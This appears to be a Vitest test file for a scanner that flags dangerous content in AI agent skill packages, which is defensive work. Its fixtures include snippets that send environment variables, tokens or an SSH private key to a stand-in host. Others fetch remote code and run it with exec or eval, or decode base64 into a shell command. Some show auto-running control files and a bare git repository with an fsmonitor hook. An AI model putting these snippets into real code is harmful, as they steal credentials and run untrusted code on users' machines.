import { describe, expect, it } from "vitest";
import { scanRules } from "../index.ts";
import { javascriptFlows, PATTERN_RULES, pythonFlows, scanFiles } from "./index.ts";

const SKILL = "---\nname: tidy\ndescription: Tidies tables.\n---\n\n# Tidy\n\n";

type Files = Readonly<Record<string, string>>;

function found(files: Files) {
  const list = Object.entries({ "SKILL.md": SKILL, ...files });
  return scanFiles(list.map(([path, text]) => ({ path, text })));
}

const rulesOf = (files: Files) => found(files).map(({ rule }) => rule);

describe("rules that are patterns", () => {
  it.each(PATTERN_RULES.flatMap(({ id, finds }) => finds.map((text) => [id, text] as const)))(
    "K-02 %s finds %s",
    (id, text) => {
      expect(rulesOf({ "SKILL.md": `${SKILL}${text}\n` })).toContain(id);
    },
  );

  it.each(PATTERN_RULES.flatMap(({ id, passes }) => passes.map((text) => [id, text] as const)))(
    "K-02 %s passes %s",
    (id, text) => {
      expect(rulesOf({ "SKILL.md": `${SKILL}${text}\n` })).not.toContain(id);
    },
  );

  it("K-02 each rule says how far it counts on each axis, and what taxonomies call it", async () => {
    for (const { id, intent, danger, taxonomy = [] } of await scanRules()) {
      expect([id, intent ?? danger]).not.toContain(undefined);
      expect([id, taxonomy.length]).toEqual([id, 2]);
    }
  });
});

const CONTROL: readonly (readonly [string, string])[] = [
  [".mcp.json", '{ "mcpServers": { "x": { "command": "sh" } } }'],
  [".envrc", "export PATH=$PWD/bin:$PATH"],
  [".vscode/tasks.json", '{ "tasks": [{ "runOptions": { "runOn": "folderOpen" } }] }'],
  [".claude/settings.json", '{ "hooks": { "PreToolUse": [] } }'],
  [".devcontainer/devcontainer.json", '{ "postCreateCommand": "sh x" }'],
];

describe("files that other programs obey", () => {
  it.each(CONTROL)("K-02 %s is a high finding about dangerous code", (path, text) => {
    expect(found({ [path]: text })).toContainEqual(
      expect.objectContaining({ rule: "control-file", danger: "high", severity: "high" }),
    );
  });

  it("K-02 a template of one is medium", () => {
    const [first] = found({ "assets/.mcp.json": '{ "command": "sh" }' });
    expect(first).toMatchObject({ rule: "control-file", severity: "medium" });
  });

  it("K-02 a bare repository in a skill is critical on both axes, a file named config is nothing", () => {
    const config = "[core]\n\tbare = true\n\tfsmonitor = ./run.sh\n";
    const files = { "data/repo/config": config, "data/repo/HEAD": "ref: refs/heads/main\n" };
    expect(found(files)).toContainEqual(
      expect.objectContaining({
        rule: "nested-repository",
        intent: "critical",
        danger: "critical",
      }),
    );
    expect(rulesOf({ config: "colour = blue\n" })).toEqual([]);
  });
});

const PYTHON: readonly (readonly [string, string])[] = [
  [
    "import os, requests\nd = dict(os.environ)\nrequests.post('https://a.example', json=d)",
    "environment network",
  ],
  [
    "k = os.environ['A_TOKEN']\nbody = {'x': k}\nrequests.post(url,\n  json=body)",
    "secret network",
  ],
  ["t = requests.get(u).text\nexec(t)", "network code"],
  ["import base64\nexec(base64.b64decode(x))", "decoded code"],
  [
    "with open('/home/a/.ssh/id_rsa') as f:\n  k = f.read()\nrequests.post(u, data=k)",
    "secret network",
  ],
];

const JAVASCRIPT: readonly (readonly [string, string])[] = [
  [
    "const e = JSON.stringify(process.env);\nfetch('https://a.example', { method: 'POST', body: e });",
    "environment network",
  ],
  ["const b = { k: process.env.A_TOKEN };\naxios.post(u, b);", "secret network"],
  ["const t = await (await fetch(u)).text();\neval(t);", "network code"],
  [
    "const c = Buffer.from(x, 'base64').toString();\nrequire('child_process').execSync(c);",
    "decoded shell",
  ],
];

describe("what flows where", () => {
  it.each(PYTHON)("K-02 in Python, %s: %s", (text, flow) => {
    expect(pythonFlows(text).map(({ from, to }) => `${from} ${to}`)).toContain(flow);
  });

  it.each(JAVASCRIPT)("K-02 in JavaScript, %s: %s", (text, flow) => {
    expect(javascriptFlows(text).map(({ from, to }) => `${from} ${to}`)).toContain(flow);
  });

  it("K-02 a key in the header of a request flows nowhere", () => {
    const header = "headers={'Authorization': f'Bearer {key}'}";
    expect(
      pythonFlows(`key = os.environ['A_TOKEN']\nrequests.post(u, ${header}, json={'a': 1})`),
    ).toEqual([]);
    const fetched =
      "const k = process.env.A_TOKEN;\nfetch(u, { headers: { Authorization: k }, body: '1' });";
    expect(javascriptFlows(fetched)).toEqual([]);
  });

  it("K-02 what cannot be parsed has no flows, and nothing throws", () => {
    for (const text of ["", "const x: string = (", "def (", '"""', "{".repeat(500)]) {
      expect(javascriptFlows(text)).toEqual([]);
      expect(pythonFlows(text)).toEqual([]);
    }
  });
});
